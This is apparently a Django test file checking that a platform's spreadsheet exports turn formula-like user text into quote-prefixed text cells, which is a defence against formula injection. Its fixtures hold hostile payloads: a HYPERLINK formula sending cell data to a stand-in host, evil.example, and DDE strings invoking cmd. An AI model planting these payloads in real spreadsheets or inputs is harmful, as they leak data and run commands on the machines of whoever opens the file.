"""Every spreadsheet the platform offers carries hostile text as text, never as a formula (issue 12, item 4).

Text a person typed — a title ``=HYPERLINK("http://evil.example/"&A1,"详情")``, an imported cell
``=cmd|' /C calc'!A0``, an address in the audit log — goes into each export; each file must hold no
formula, every text must be a text cell, and a text a spreadsheet would read as a formula must be
marked quote-prefixed. ``EXPORTS`` lists every download; a module that starts building a spreadsheet
(through ``core.spreadsheets``, the only way tests/core/test_spreadsheets.py allows) fails
``test_every_module_that_builds_a_spreadsheet_is_covered_here`` until its download is added here.
"""

import ast
import io
from datetime import date
from decimal import Decimal

import pghistory
import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from achievements.services import filings as achievement_services
from core.spreadsheets import FORMULA_STARTS
from institutions import services as institution_services
from institutions.choices import ClassificationScheme
from institutions.models import Classification
from market.choices import (
    ContractCategory,
    ContractSource,
    ContractStatus,
    ContractSubType,
    NumberSource,
    PartyKind,
    PaymentMethod,
)
from market.models import ContractRegistration
from tests.achievements.factories import filing_data
from tests.core.test_spreadsheets import ROOT, formula_cells, production_modules

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/"&A1,"详情")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE_TEXTS = {
    "title": TITLE,
    "summary": DDE,
    "detail": "@SUM(1+1)*cmd|' /C calc'!A0",
    "funding_programme": "+1+cmd|' /C calc'!A0",
    "project_number": "-1+1",
}
# Every download that is a spreadsheet: (URL, who asks for it, the module that builds it).
EXPORTS = [
    ("/achievements/import/export/?scope=mine", "staff", "achievements.exporting"),
    ("/api/v1/achievements-export/?scope=mine", "staff", "achievements.exporting"),
    ("/achievements/import/template/", "staff", "achievements.excel_template"),
    ("/api/v1/achievement-imports/template/", "staff", "achievements.excel_template"),
    ("/audit/export/", "official", "institutions.exporting"),
    ("/market/contracts/export/", "official", "market.selectors.contract_imports"),
    ("/api/v1/contracts/export/", "official", "market.selectors.contract_imports"),
    ("/market/contract-imports/template/", "official", "market.selectors.contract_imports"),
    ("/api/v1/contract-imports/template/", "official", "market.selectors.contract_imports"),
]
# What building a spreadsheet looks like (tests/core/test_spreadsheets.py keeps every other way out).
_BUILDERS = {"ExportWorkbook", "editable_workbook"}


@pytest.fixture
def hostile_records(chengdu_staff, chengdu_official, chengdu_institution):
    """Hostile text in an achievement (title, texts, contributor, outside owner), in a classification
    name the template lists, and in an institution's address the audit log shows."""
    achievement_services.achievement_create(
        actor=chengdu_staff,
        institution=chengdu_institution,
        data=filing_data(keywords=["@关键词"], **HOSTILE_TEXTS),
        owners=[
            achievement_services.OwnerShare(chengdu_institution, Decimal(60)),
            achievement_services.OwnerShare.external("=外部单位", "N2510100MA6C00017U", Decimal(40)),
        ],
        contributors=[achievement_services.Contributor(name="=张三")],
    )
    Classification.objects.filter(scheme=ClassificationScheme.TECHNOLOGY_FIELD, code="03").update(name=DDE)
    with pghistory.context(user=chengdu_official.pk):
        institution_services.organisation_update(
            actor=chengdu_official, organisation=chengdu_institution, data={"address": TITLE}
        )
    # A registered contract of a seller in 成都 (the official's jurisdiction), as an import makes it.
    ContractRegistration.objects.create(
        source=ContractSource.IMPORT,
        status=ContractStatus.REGISTERED,
        registration_number="5101012024000001",
        number_source=NumberSource.NATIONAL,
        project_name=TITLE,
        contract_category=ContractCategory.DEVELOPMENT,
        sub_type=ContractSubType.COMMISSIONED_DEVELOPMENT,
        signed_on=date(2024, 3, 15),
        valid_from=date(2024, 3, 15),
        valid_until=date(2025, 3, 14),
        contract_amount=Decimal(500000),
        technical_amount=Decimal(500000),
        payment_method=PaymentMethod.LUMP_SUM,
        ip_type="none",
        seller_kind=PartyKind.ORGANISATION,
        seller_name=DDE,
        seller_entity_type="022",
        seller_region_code="510104",
        buyer_kind=PartyKind.PERSON,
        buyer_name="-张三",
        buyer_entity_type="400",
        buyer_region_code="510104",
        submitted_at=timezone.now(),
        registered_at=timezone.now(),
    )
    return {"staff": chengdu_staff, "official": chengdu_official}


@pytest.mark.parametrize(("url", "who", "module"), EXPORTS, ids=[url for url, _who, _module in EXPORTS])
def test_no_export_holds_a_formula_from_hostile_text(hostile_records, url, who, module):
    client = Client()
    client.force_login(hostile_records[who])

    response = client.get(url)

    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert formula_cells(content) == []
    cells = [
        cell
        for sheet in load_workbook(io.BytesIO(content)).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert {cell.data_type for cell in cells} == {"s"}
    hostile = [cell for cell in cells if cell.value.startswith(FORMULA_STARTS)]
    assert hostile, "the hostile text should be in this export"
    assert all(cell.quotePrefix for cell in hostile)
    # Whatever the cell, an explicit formula marker is never written.
    assert all(not cell.value.startswith("'=") for cell in cells)


def test_each_export_carries_the_hostile_texts_it_should(hostile_records):
    client = Client()
    client.force_login(hostile_records["staff"])
    exported = b"".join(client.get("/api/v1/achievements-export/?scope=mine").streaming_content)
    template = client.get("/api/v1/achievement-imports/template/").content
    client.force_login(hostile_records["official"])
    audit_log = b"".join(client.get("/audit/export/").streaming_content)

    def texts(content: bytes) -> set[str]:
        workbook = load_workbook(io.BytesIO(content))
        return {cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row}

    assert {*HOSTILE_TEXTS.values(), "@关键词", "=张三"} <= texts(exported)
    assert any("=外部单位" in str(value) for value in texts(exported))
    assert DDE in texts(template)
    assert any(TITLE in str(value) for value in texts(audit_log))


def test_every_module_that_builds_a_spreadsheet_is_covered_here():
    """A new export fails here until its download is added to ``EXPORTS``."""
    building = set()
    for path in production_modules():
        tree = ast.parse(path.read_text(encoding="utf-8"))
        used = set()
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
                if node.value.id == "spreadsheets":
                    used.add(node.attr)
            elif isinstance(node, ast.ImportFrom) and node.module == "core.spreadsheets":
                used |= {alias.name for alias in node.names}
        module = ".".join(path.relative_to(ROOT).with_suffix("").parts)
        if used & _BUILDERS and module != "core.spreadsheets":
            building.add(module)

    assert building == {module for _url, _who, module in EXPORTS}
